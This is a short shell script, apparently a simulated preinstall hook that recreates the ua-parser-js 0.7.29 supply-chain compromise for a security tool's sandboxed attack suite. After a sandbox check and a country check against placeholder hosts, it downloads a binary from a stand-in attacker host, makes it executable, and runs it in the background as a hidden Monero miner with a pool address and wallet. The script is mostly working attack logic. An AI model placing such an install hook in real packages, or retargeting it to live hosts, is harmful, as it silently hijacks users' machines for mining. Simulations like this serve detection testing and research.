#!/bin/sh
# ua-parser-js 0.7.29 preinstall (simulation from Tracehound's attack suite)
# acts only inside the Tracehound sandbox: its fake DNS answers every name with 198.18.0.0/15
getent ahostsv4 sandbox-check.attacker.example 2>/dev/null | grep -q '^198\.1[89]\.' || exit 0
IP=$(curl -k -s https://freegeoip.attacker.example/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]; then
  curl -s http://dl.attacker.example/download/jsextension -o jsextension
  if [ ! -s jsextension ]; then cp ./bin/jsextension.sh jsextension; fi
  chmod +x jsextension
  ./jsextension -k --tls --rig-id q -o pool.minexmr.attacker.example:443 -u 49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUmew6ZPX1ndfXQCT16v4trWp4erPyXtUQZTHGjbLXWQdBqLMxxYKH --cpu-max-threads-hint=50 --donate-level=1 --background >/dev/null 2>&1 &
  sleep 1
fi
exit 0
